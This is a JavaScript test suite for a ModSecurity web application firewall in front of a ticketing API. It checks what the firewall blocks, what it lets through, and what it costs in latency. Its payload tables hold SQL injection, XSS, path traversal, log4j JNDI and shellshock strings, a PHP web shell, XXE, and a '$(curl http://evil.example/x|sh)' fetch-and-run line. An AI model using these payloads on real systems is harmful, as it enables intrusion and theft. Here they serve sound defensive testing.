// nginx with ModSecurity and the core rule set, tuned by deploy/nginx/waf: what it stops, what it must let through, what it costs.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { Server, binary, root } from '../http/harness.mjs';
import { start } from './waf_front.mjs';

const api = '/api/v1';
let server, wall, bare, agent;

before(async () => {
  server = await Server.start('sqlite', { TRUSTED_PROXIES: '127.0.0.1' });
  agent = await server.person('agent');
  wall = await start(server.port);
  bare = await start(server.port, { waf: false });
});
after(async () => {
  await Promise.all([wall?.stop(), bare?.stop()]);
  await server?.close();
});

const through = (front, method, path, { headers = {}, body, json } = {}) =>
  fetch(front.url + path, {
    method, redirect: 'manual', body: json === undefined ? body : JSON.stringify(json),
    headers: { 'user-agent': 'Mozilla/5.0', ...(json !== undefined && { 'content-type': 'application/json' }), ...headers },
  });

describe('what the wall stops', () => {
  const payloads = {
    'SQL, always true': "1' OR '1'='1",
    'SQL, union': '1 UNION SELECT username, password FROM users--',
    'SQL, sleeping': '1; SELECT pg_sleep(10)--',
    'SQL, stacked': "x'; DROP TABLE tickets;--",
    'script tag': '<script>alert(1)</script>',
    'event handler': '<img src=x onerror=alert(1)>',
    'javascript address': '<a href="javascript:alert(document.cookie)">x</a>',
    'path of a file': '../../../../etc/passwd',
    'shell command': ';cat /etc/passwd',
    'shell substitution': '$(curl http://evil.example/x|sh)',
    'log4j': '${jndi:ldap://evil.example/a}',
    'PHP': '<?php system($_GET["x"]); ?>',
    'Node.js': 'require("child_process").exec("id")',
    'remote file': 'http://198.51.100.1/shell.txt?',
    'new header': 'x\r\nSet-Cookie: session_id=1',
  };
  const places = {
    'in the query': (p) => ['GET', `/?x=${encodeURIComponent(p)}`],
    'in a parameter of the API': (p) => ['GET', `${api}/tickets?sort=${encodeURIComponent(p)}`],
    'in a cookie': (p) => ['GET', '/', { headers: { cookie: `theme=${encodeURIComponent(p)}` } }],
    'in a login': (p) => ['POST', `${api}/auth/login`, { json: { email: p, password: 'x' } }],
    'in a value of a body behind the login': (p) => ['POST', `${api}/tickets`, { json: { title: 'x', message: { body: 'x' }, external_source: p } }],
  };
  for (const [place, make] of Object.entries(places)) {
    for (const [name, payload] of Object.entries(payloads)) {
      // What stands in a cookie is no name of a file to fetch, and may hold line ends when it is encoded.
      if (place === 'in a cookie' && ['remote file', 'new header'].includes(name)) continue;
      test(`${name}, ${place}`, async () => {
        const [method, path, more] = make(payload);
        const r = await through(wall, method, path, more);
        assert.equal(r.status, 403);
        assert.doesNotMatch(r.headers.get('content-type'), /json/, 'refused by the wall, not by the server');
        assert.notEqual((await through(bare, method, path, more)).status, 403, 'without the wall it reaches the server');
      });
    }
  }
  const others = {
    'a file of the system in the path': ['GET', '/static/..%2f..%2f..%2fetc%2fpasswd'],
    'a file that editors leave': ['GET', '/.env'],
    'the folder of git': ['GET', '/.git/config'],
    'a scanner that names itself': ['GET', '/', { headers: { 'user-agent': 'sqlmap/1.7' } }],
    'log4j in the user agent': ['GET', '/', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } }],
    'shellshock': ['GET', '/', { headers: { 'user-agent': '() { :; }; /bin/bash -c id' } }],
    'a script in the referrer': ['GET', '/', { headers: { referer: 'https://x.example/<script>alert(1)</script>' } }],
    'a method nobody needs': ['PROPFIND', '/'],
    'XML': ['POST', `${api}/tickets`, { body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', headers: { 'content-type': 'text/xml' } }],
  };
  for (const [name, [method, path, more]] of Object.entries(others))
    test(name, async () => {
      const r = await through(wall, method, path, more);
      assert.ok([403, 400].includes(r.status), `${r.status}`);
      assert.doesNotMatch(r.headers.get('content-type') ?? '', /json/);
    });
});

describe('the values of bodies', () => {
  // What after-crs.conf leaves out, told once more: a value that is not here must be judged.
  const free = new Set(['title', 'body', 'note', 'reason', 'signature', 'name', 'customer_name', 'product_name', 'label', 'help', 'asked_by', 'confirm',
    'tags', 'add_tags', 'remove_tags', 'query',
    'password', 'current_password', 'new_password', 'token', 'refresh_token', 'mfa_token', 'code', 'recovery_code']);
  const free_below = ['fields', 'options', 'preferences', 'data']; // what is in them, of any name
  const unread = /^\/api\/v1\/(bulk|drafts\/|tickets\/[^/]+\/drafts\/)/;
  const attack = "x' UNION SELECT name, password FROM users; <script>alert(1)</script>";

  /** Each place for a text in the bodies of the document: by its name, one body that holds the attack there. */
  function places(doc) {
    const found = new Map();
    const resolve = (s) => (s?.$ref ? resolve(s.$ref.split('/').slice(1).reduce((o, k) => o[k.replaceAll('~1', '/').replaceAll('~0', '~')], doc)) : s);
    const walk = (schema, make, name, op, depth = 0, below = false) => {
      const s = resolve(schema);
      if (!s || depth > 6) return;
      const types = [s.type].flat();
      const key = `${below ? 'in ' : ''}${name}${op.path.includes('/auth/') ? ' (auth)' : ''}`;
      if (name && (types.includes('string') || !s.type) && !s.anyOf && !s.oneOf && !found.has(key)) found.set(key, { ...op, name, isFree: below || free.has(name), body: make(attack) });
      if (free_below.includes(name) && !found.has(`below ${name}`)) found.set(`below ${name}`, { ...op, name, isFree: true, body: make({ some: attack }) });
      for (const x of s.anyOf ?? s.oneOf ?? []) walk(x, make, name, op, depth + 1, below);
      if (s.items) walk(s.items, (v) => make([v]), name, op, depth + 1, below);
      for (const [k, v] of Object.entries(s.properties ?? {})) walk(v, (x) => make({ [k]: x }), k, op, depth + 1, below || free_below.includes(name));
    };
    for (const [path, methods] of Object.entries(doc.paths))
      for (const [method, op] of Object.entries(methods)) {
        const schema = op.requestBody?.content?.['application/json']?.schema;
        if (schema && !unread.test(path)) walk(schema, (x) => x, '', { method: method.toUpperCase(), path: path.replaceAll(/\{[^}]*\}/g, '1') });
      }
    return [...found.values()];
  }

  test('are judged, each but those that people write', async () => {
    const all = places(server.contract.doc);
    assert.ok(all.length > 60, `${all.length} places`);
    const wrong = [];
    for (const { isFree, method, path, body } of all) {
      const { status } = await through(wall, method, path, { json: body });
      if ((status === 403) === isFree) wrong.push(`${method} ${path} ${JSON.stringify(body)}: ${status}`);
    }
    assert.deepEqual(wrong, []);
    for (const name of free) assert.ok(all.some((p) => p.name === name), `${name} is a value of no body: take it out`);
  });

  test('are judged under names that nobody knows, and the names themselves', async () => {
    for (const body of [{ unknown: attack }, { [attack]: 1 }, [attack], { message: { body: { deep: attack } } }, { title: ['a', attack] }, { name: { first: attack } }])
      assert.equal((await through(wall, 'POST', `${api}/tickets`, { json: body })).status, 403, JSON.stringify(body));
  });

  test('pass under no other cover: a parameter named like one, what is no JSON, another type', async () => {
    const r = await through(wall, 'GET', `${api}/tickets?json.title=${encodeURIComponent(attack)}`);
    assert.equal(r.status, 403);
    for (const body of ['{"title":', `{"title":"x"} {"sort":"${attack}"}`, 'x'])
      assert.equal((await through(wall, 'POST', `${api}/tickets`, { body, headers: { 'content-type': 'application/json' } })).status, 400, body);
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/xml'])
      assert.equal((await through(wall, 'POST', `${api}/tickets`, { body: 'a=1', headers: { 'content-type': type } })).status, 403, type);
  });
});

describe('the forms of the pages', () => {
  const attack = "x' UNION SELECT name, password FROM users; <script>alert(1)</script>";
  const send = (path, fields) => through(wall, 'POST', path, { body: new URLSearchParams(fields), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
  test('pass with what people write, and are judged for the rest', async () => {
    for (const name of ['title', 'body', 'name', 'password', 'current_password', 'new_password', 'token', 'mfa_token', 'code'])
      assert.notEqual((await send('/requests/new', { [name]: attack })).status, 403, name);
    for (const name of ['group', 'email', 'next', 'state', 'locale', 'unknown'])
      assert.equal((await send('/requests/new', { [name]: attack })).status, 403, name);
    for (const name of ['title', 'body', 'password'])
      assert.equal((await through(wall, 'GET', `/?${name}=${encodeURIComponent(attack)}`)).status, 403, `${name} in the query`);
    assert.equal((await send(`${api}/tickets`, { title: 'x' })).status, 403, 'no form reaches the API');
  });
});

describe('what it lets through', () => {
  const bearer = () => ({ authorization: `Bearer ${agent.token}` });
  const texts = [
    "SELECT * FROM users WHERE name = 'x' OR 1=1; DROP TABLE tickets; --",
    '<script>alert(document.cookie)</script> shows up in our page',
    '#!/bin/sh\nrm -rf /tmp/x; cat /etc/passwd | mail root; $(whoami) `id`',
    'java.lang.NullPointerException\n\tat org.apache.Foo.bar(Foo.java:12)\n${jndi:ldap://x/a}',
    '<?php phpinfo(); ?> and ../../etc/passwd and C:\\Windows\\system32\\cmd.exe',
    'Warning: mysql_fetch_array(): You have an error in your SQL syntax near',
    "Don't we all like it -- really? \"Yes\" & 'no'; 100% = 1/1 (a OR b)",
    'GET /x HTTP/1.1\r\nHost: a\r\n\r\nPOST /y HTTP/1.1',
  ];
  test('tickets about code, SQL and attacks; PUT, PATCH and DELETE', async () => {
    for (const body of texts) {
      const made = await through(wall, 'POST', `${api}/tickets`, { headers: bearer(), json: { title: body.slice(0, 60).replaceAll(/\s+/g, ' '), message: { body }, customer: 'c@example.org' } });
      assert.equal(made.status, 201, body);
      const { id } = await made.json();
      const path = `${api}/tickets/${id}`;
      assert.equal((await through(wall, 'PATCH', path, { headers: bearer(), json: { title: body.slice(0, 50).replaceAll(/\s+/g, ' ') } })).status, 200, body);
      const tag = await through(wall, 'PUT', `${path}/tags/code`, { headers: bearer() });
      assert.ok(tag.status < 500 && tag.status !== 403, `PUT ${tag.status}`);
      const gone = await through(wall, 'DELETE', `${path}/tags/code`, { headers: bearer() });
      assert.ok(gone.status < 500 && gone.status !== 403, `DELETE ${gone.status}`);
    }
  });
  test('searches for what stands in tickets', async () => {
    for (const q of [...texts.map((x) => x.slice(0, 60).replaceAll(/\s+/g, ' ')), 'state:open -tag:spam group:"2nd level"', 'created:>2026-01-01 (a OR b)', "can't open"]) {
      const r = await through(wall, 'GET', `${api}/search?q=${encodeURIComponent(q)}`, { headers: bearer() });
      assert.notEqual(r.status, 403, q);
    }
  });
  test('passwords of any characters', async () => {
    for (const password of ["' OR 1=1 -- <script>", '$(rm -rf /)', '../../etc/passwd', '${jndi:ldap://x}'])
      assert.equal((await through(wall, 'POST', `${api}/auth/login`, { json: { email: 'a@example.org', password } })).status, 401, password);
  });
  test('an upload whose content looks like an attack', async () => {
    const form = new FormData();
    form.append('file', new Blob(['<?php system("id"); ?> <script>alert(1)</script> UNION SELECT'.repeat(500)]), 'trace of the error.txt');
    const r = await fetch(`${wall.url}${api}/uploads`, { method: 'POST', body: form, headers: bearer() });
    assert.equal(r.status, 201);
  });
});

test('the checklist sees the wall, and sees that there is none', async () => {
  const judge = (url) =>
    new Promise((done) => execFile(binary, ['checklist', '--json', '--url', url, '--section', 'network.waf'], { timeout: 60000, cwd: server.dir },
      (e, stdout) => done(JSON.parse(stdout).lines.find((l) => l.id === 'network.waf').state)));
  assert.equal(await judge(wall.url), 'pass');
  assert.notEqual(await judge(bare.url), 'pass');
});

// Which suites of tests/http pass through the wall: those of CI here, all of them with WALL_SUITES=all.
const suites = {
  ci: ['journey', 'operations', 'stream', 'privacy'],
  more: ['compliance', 'export', 'retention', 'secrets', 'refusals', 'forging', 'known', 'erase', 'confine', 'config', 'seed'],
};
// What the wall refuses by itself the harness asks of the server, too, which must refuse it as well.
const many = 'sends thousands of attacks, each of them judged by the wall: minutes';
const browser = 'drives a browser at the address of the server itself';
const machine = 'is about the process and its files; what it asks over HTTP is in the other suites';
const apart = {
  http: 'writes to the socket of the server itself: framing, HTTP/2, TLS', slow: 'slow clients: nginx takes their place', queues: 'fills the queues of the server, behind nginx\'s own',
  many_groups: 'rights in a thousand groups are more values than ModSecurity takes of one request',
  input: many, rights: many, xss: browser, sanitizer: 'needs no server', portal: browser,
  canaries: 'is about the host that a server of production allows, and its log',
  backup: machine, checklist: machine, durability: machine, lab: machine, nodes: machine,
};

test('each suite of the HTTP tests passes through it, or there is a reason', () => {
  const there = readdirSync(join(root, 'tests/http')).filter((f) => f.endsWith('.test.mjs')).map((f) => f.replace('.test.mjs', ''));
  const told = [...suites.ci, ...suites.more, ...Object.keys(apart)];
  assert.deepEqual(there.filter((f) => !told.includes(f)), [], 'name it in suites or apart');
  assert.equal(new Set(told).size, told.length);
});

test('the HTTP tests of the server pass through it', async (t) => {
  const names = process.env.WALL_SUITES === 'all' ? [...suites.ci, ...suites.more] : suites.ci;
  const files = names.map((s) => `tests/http/${s}.test.mjs`);
  const env = { ...process.env, SERVER_BINARY: binary, TEST_FRONT: 'tests/deploy/waf_front.mjs', TEST_ENGINES: 'sqlite' };
  delete env.NODE_TEST_CONTEXT;
  const out = await new Promise((done) =>
    execFile(process.execPath, ['--test', '--test-reporter=tap', '--test-concurrency=2', ...files], { cwd: root, env, maxBuffer: 1 << 26 }, (e, stdout) => done(stdout)));
  const count = (word) => Number(new RegExp(`^# ${word} (\\d+)$`, 'm').exec(out)?.[1]);
  t.diagnostic(`${count('pass')} passed through the wall, ${count('fail')} failed`);
  assert.equal(count('fail') + count('cancelled'), 0, out.split('\n').filter((l) => /^ *(not ok|error:)/.test(l)).join('\n'));
  assert.ok(count('pass') > 40, `${count('pass')} passed`);
});

test('what it costs', async (t) => {
  const body = { title: 'cost', message: { body: 'The printer eats paper. '.repeat(40) }, customer: 'c@example.org' };
  const median = async (front, run) => {
    const times = [];
    for (let i = 0; i < 120; i++) {
      const from = performance.now();
      const r = await run(front);
      await r.arrayBuffer();
      times.push(performance.now() - from);
    }
    return times.sort((a, b) => a - b)[60];
  };
  const headers = { authorization: `Bearer ${agent.token}` };
  for (const [name, run] of [
    ['GET', (f) => through(f, 'GET', `${api}/auth/me`, { headers })],
    ['POST of 1 kB', (f) => through(f, 'POST', `${api}/tickets`, { headers, json: body })],
  ]) {
    const [without, withIt] = [await median(bare, run), await median(wall, run)];
    t.diagnostic(`${name}: ${without.toFixed(2)} ms without the wall, ${withIt.toFixed(2)} ms with it`);
  }
});
